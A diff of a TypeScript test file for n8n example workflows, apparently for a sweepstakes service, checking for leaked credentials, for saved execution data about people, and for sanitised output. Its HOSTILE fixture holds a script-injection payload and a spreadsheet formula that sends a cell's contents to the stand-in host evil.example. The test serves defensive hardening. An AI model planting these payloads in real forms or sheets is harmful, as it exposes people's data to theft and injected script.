@@ -6,21 +6,63 @@ import {
 	Workflow,
 	type IDataObject,
 	type INode,
+	type INodeParameterResourceLocator,
 	type INodeParameters,
 	type INodeTypes,
+	type IWorkflowSettings,
 	type NodeParameterValueType,
 } from 'n8n-workflow';
 
 import { filledIn, nodeNamed } from '../../examples/demo/fillIn';
+import type { WorkflowDefinition } from '../../tools/n8n/rest';
 
 const EXAMPLES = resolve(__dirname, '../../examples');
 const FILES = readdirSync(EXAMPLES).filter((file) => file.endsWith('.json'));
 
-test.each(FILES)('%s has no ID of a webhook, by which strangers could find it', (file) => {
-	expect(readFileSync(join(EXAMPLES, file), 'utf8')).not.toContain('webhookId');
+const stored = (file: string) => JSON.parse(readFileSync(join(EXAMPLES, file), 'utf8')) as WorkflowDefinition;
+
+test.each(FILES)(
+	'%s has no account, no sweepstakes, and no address by which strangers could find it',
+	(file) => {
+		for (const { parameters, ...node } of stored(file).nodes) {
+			expect(node).not.toHaveProperty('credentials');
+			expect(node).not.toHaveProperty('webhookId');
+			const picker = parameters['sweepstakes'] as INodeParameterResourceLocator | undefined;
+			expect(String(picker?.value ?? '')).toMatch(/^(=.*)?$/);
+		}
+	},
+);
+
+/** Manual draws and invoices are kept for later reference, as the notes say. */
+const KEPT_IF_BY_HAND = ['draw-email-invoice', 'tell-winners', 'draw-record', 'import-draw-invoice'];
+/** Examples that handle no people, or keep the questions of agents. */
+const KEPT = [
+	'approve-by-email',
+	'ask-about-a-campaign',
+	'books-of-the-month',
+	'check-your-account',
+	'codes-to-csv',
+	'mcp-server',
+	'month-end-report',
+	'nightly-check',
+];
+
+test('n8n saves no successful execution of an example that handles people', () => {
+	const kept = (saves: (settings: IWorkflowSettings) => boolean) =>
+		FILES.filter((file) => saves(stored(file).settings!)).map((file) => file.replace('.json', ''));
+	expect(kept(({ saveDataSuccessExecution }) => saveDataSuccessExecution !== 'none')).toEqual(KEPT);
+	expect(kept(({ saveManualExecutions }) => saveManualExecutions !== false).sort()).toEqual(
+		[...KEPT, ...KEPT_IF_BY_HAND].sort(),
+	);
 });
 
-/** What strangers enter, of each kind that does harm somewhere. */
+test('form-to-participant waits 15 minutes at most for a visitor to see the last page', () => {
+	const endings = stored('form-to-participant.json').nodes.filter(({ name }) => name.startsWith('Ending: '));
+	const limit = { limitWaitTime: true, resumeAmount: 15, resumeUnit: 'minutes' };
+	expect(endings.map(({ parameters }) => parameters)).toEqual(Array(3).fill(expect.objectContaining(limit)));
+});
+
+/** Hostile input from strangers, one of each harmful kind. */
 const HOSTILE = {
 	script: '<script>alert(1)</script><img src=x onerror="alert(1)">',
 	formula: '=HYPERLINK("http://evil.example/?q="&A1)',
@@ -34,19 +76,22 @@ const HOSTILE = {
 };
 const KINDS = Object.entries(HOSTILE);
 
-/** Any node type: expressions need none. */
+/** Accepts any node type: expressions need none. */
 const nodeTypes = {
 	getByName: () => undefined,
 	getByNameAndVersion: () => undefined,
 	getKnownTypes: () => ({}),
 } as unknown as INodeTypes;
 
-/** The parameters of a node as n8n resolves them for one item. */
-function resolved(file: string, node: string, json: IDataObject): INodeParameters {
-	const { nodes, connections } = filledIn(`${file}.json`, {
+const chosen = (file: string) =>
+	filledIn(`${file}.json`, {
 		credential: { id: '1', name: 'Test' },
 		sweepstakes: { token: 'token', name: 'Summer' },
 	});
+
+/** A node's parameters as n8n resolves them for one item. */
+function resolved(file: string, node: string, json: IDataObject): INodeParameters {
+	const { nodes, connections } = chosen(file);
 	const workflow = new Workflow({ id: '1', nodes: nodes as INode[], connections, active: false, nodeTypes });
 	const { parameters } = nodeNamed({ name: file, nodes, connections }, node);
 	const ran = { startTime: 0, executionTime: 0, executionIndex: 0, source: [], data: { main: [[{ json }]] } };
@@ -63,7 +108,7 @@ function resolved(file: string, node: string, json: IDataObject): INodeParameter
 	) as INodeParameters;
 }
 
-/** The fields that a node for editing fields outputs. */
+/** The output fields of a node for editing fields. */
 function output(file: string, node: string, json: IDataObject): IDataObject {
 	const parameters = resolved(file, node, json);
 	if (parameters['mode'] === 'raw') return parameters['jsonOutput'] as IDataObject;
@@ -73,7 +118,7 @@ function output(file: string, node: string, json: IDataObject): IDataObject {
 	return Object.fromEntries(assignments.map(({ name, value }) => [name, value]));
 }
 
-/** A record of the service of which each text is hostile. */
+/** A record of the service in which each text is hostile. */
 const record = (text: string): IDataObject => ({
 	FirstName: text,
 	LastName: text,
@@ -124,11 +169,7 @@ describe('a cell of a file', () => {
 	test.each(['google-sheet-to-participants', 'winners-to-invoice-sheet-slack', 'opt-outs-both-ways'])(
 		'of the Google Sheet of %s is plain text',
 		(name) => {
-			const { nodes } = filledIn(`${name}.json`, {
-				credential: { id: '1', name: 'Test' },
-				sweepstakes: { token: 'token', name: 'Summer' },
-			});
-			const writers = nodes.filter(
+			const writers = chosen(name).nodes.filter(
 				({ type, parameters }) => type.endsWith('.googleSheets') && parameters['operation'] !== 'read',
 			);
 			expect(writers.length).toBeGreaterThan(0);
@@ -139,7 +180,7 @@ describe('a cell of a file', () => {
 	);
 });
 
-/** No tag, no Markdown of a link or image, and no address that programs turn into a link. */
+/** No tags, no Markdown links or images, and no addresses that programs turn into links. */
 const HARMFUL = /[<>[\]\0-\x08\x0b-\x1f]|:\/\/|[a-z]\.example/i;
 
 describe('a message', () => {
@@ -203,11 +244,8 @@ describe('a page', () => {
 		}
 	});
 
-	test('of form-to-participant names nobody: on n8n 1, strangers can open it', () => {
-		for (const { type, parameters } of filledIn('form-to-participant.json', {
-			credential: { id: '1', name: 'Test' },
-			sweepstakes: { token: 'token', name: 'Summer' },
-		}).nodes) {
+	test('of form-to-participant contains no name: on n8n 1, strangers can open it', () => {
+		for (const { type, parameters } of chosen('form-to-participant').nodes) {
 			if (type === 'n8n-nodes-base.form') expect(JSON.stringify(parameters)).not.toContain('{{');
 		}
 	});
@@ -224,17 +262,13 @@ describe('an answer in a chat', () => {
 		}
 	});
 
-	test.each(CHATS)('of %s comes from the node that takes them out', (file) => {
-		const { connections } = filledIn(`${file}.json`, {
-			credential: { id: '1', name: 'Test' },
-			sweepstakes: { token: 'token', name: 'Summer' },
-		});
-		expect(connections['Agent']).toEqual({
+	test.each(CHATS)('of %s comes from the node that removes them', (file) => {
+		expect(chosen(file).connections['Agent']).toEqual({
 			main: [[{ node: 'Without Links', type: 'main', index: 0 }]],
 		});
 	});
 
-	test('is otherwise the one of the agent', () => {
+	test('is otherwise the agent’s', () => {
 		const answer = '2.5 % of 1,200 people won, e.g. **Grace** (grace.hopper@example.com).\n- Ida, at 10:30';
 		expect(output('ask-about-a-campaign', 'Without Links', { output: answer })).toEqual({ output: answer });
 	});
